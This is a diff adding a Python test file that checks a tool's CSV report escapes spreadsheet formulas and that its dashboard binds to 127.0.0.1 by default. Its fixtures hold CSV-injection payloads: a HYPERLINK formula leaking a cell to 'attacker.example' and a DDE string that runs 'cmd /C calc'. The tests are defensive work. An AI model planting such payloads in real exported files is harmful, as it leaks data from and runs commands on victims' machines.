@@ -1,0 +1,80 @@
+"""What the tool refuses to do for whoever reaches it: formulas in exported CSV, serving beyond this machine."""
+
+from __future__ import annotations
+
+import csv
+import io
+import re
+from pathlib import Path
+
+import pandas as pd
+from helpers import rec, write_jsonl
+
+from specdec_core.analysis.report import mismatch_report, report_csv
+from specdec_core.cli import main
+from specdec_core.store.connection import Store
+from specdec_core.store.ingest import ingest
+
+ROOT = Path(__file__).resolve().parents[1]
+HOSTILE_ID = '=HYPERLINK("http://attacker.example/?leak="&A1,"open")'
+
+# --- spreadsheet formulas in the report ----------------------------------------------------------------------
+
+
+def _hostile_store(tmp_path: Path) -> Store:
+    """A length violation whose request_id, model and tokenizer names would be formulas in a spreadsheet."""
+    store = Store(tmp_path / "hostile.duckdb")
+    ingest(store, [str(write_jsonl(tmp_path / "hostile.jsonl", [
+        rec(HOSTILE_ID, max_tokens=2, target_model="+cmd|' /C calc'!A0", tokenizer_version="@SUM(1+1)"),
+        rec("\tdash", ts="2026-03-01T10:01:00Z", max_tokens=2, deployment="-2+3", cache_key="\rk"),
+    ]))])
+    return store
+
+
+def _rows(data: bytes) -> list[dict[str, str]]:
+    return list(csv.DictReader(io.StringIO(data.decode("utf-8"), newline="")))
+
+
+def test_report_cells_that_a_spreadsheet_would_run_get_a_leading_quote(tmp_path):
+    store = _hostile_store(tmp_path)
+    out = tmp_path / "report.csv"
+    assert main(["report", "--db", str(store.path), "--out", str(out)]) == 0
+    first, second = _rows(out.read_bytes())
+    assert first["request_id"] == "'" + HOSTILE_ID
+    assert first["target_model"] == "'+cmd|' /C calc'!A0" and first["tokenizer_version"] == "'@SUM(1+1)"
+    assert second["request_id"] == "'\tdash" and second["deployment"] == "'-2+3" and second["cache_key"] == "'\rk"
+    assert first["max_tokens"] == "2" and first["detail"] == "output_tokens 3 > max_tokens 2"
+
+
+def test_report_raw_keeps_the_exact_text(tmp_path):
+    store = _hostile_store(tmp_path)
+    out = tmp_path / "raw.csv"
+    assert main(["report", "--db", str(store.path), "--out", str(out), "--raw"]) == 0
+    first, second = _rows(out.read_bytes())
+    assert first["request_id"] == HOSTILE_ID and second["request_id"] == "\tdash" and second["cache_key"] == "\rk"
+
+
+def test_negative_numbers_stay_numbers_and_only_text_columns_are_neutralised():
+    frame = pd.DataFrame({"request_id": ["-r", "r"], "temperature": [-0.5, 1.0], "latency_ms": [-12, 3],
+                          "detail": [None, "=1"]})
+    assert report_csv(frame).decode() == "request_id,temperature,latency_ms,detail\n'-r,-0.5,-12,\nr,1.0,3,'=1\n"
+    assert report_csv(frame, raw=True).decode() == "request_id,temperature,latency_ms,detail\n-r,-0.5,-12,\nr,1.0,3,=1\n"
+
+
+def test_the_demo_report_without_hostile_values_is_the_same_bytes_as_raw(tmp_path):
+    store = Store(tmp_path / "demo.duckdb")
+    ingest(store, [str(ROOT / "data" / "demo" / "requests.jsonl.gz")])
+    frame = mismatch_report(store)
+    assert len(frame) > 100
+    assert report_csv(frame) == report_csv(frame, raw=True)
+
+
+# --- serving -------------------------------------------------------------------------------------------------
+
+
+def test_the_dashboard_binds_to_this_machine_only_by_default():
+    config = (ROOT / ".streamlit" / "config.toml").read_text()
+    assert re.search(r'^\[server\][^\[]*^address\s*=\s*"127\.0\.0\.1"', config, re.M | re.S), config
+    run_target = re.search(r"^run:.*?(?=^\S)", (ROOT / "Makefile").read_text(), re.M | re.S).group(0)
+    assert "--server.address 127.0.0.1" in run_target
+    assert "0.0.0.0" not in run_target and "0.0.0.0" not in config
